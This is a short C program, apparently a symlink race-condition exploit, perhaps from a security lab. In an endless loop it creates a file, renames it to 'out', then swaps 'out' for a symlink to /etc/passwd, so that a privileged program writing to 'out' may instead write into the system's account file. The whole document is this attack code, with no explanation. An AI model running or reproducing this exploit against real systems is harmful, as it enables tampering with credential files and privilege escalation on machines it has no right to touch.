#include "attack.h"
int main(void) {
  symlink("/etc/passwd", "link");
  for (;;) {
    int fd = open("file", O_CREAT | O_WRONLY, 0600);
    write(fd, "mine", 4);
    close(fd);
    rename("file", "out");
    symlink("/etc/passwd", "link");
    rename("link", "out");
  }
}
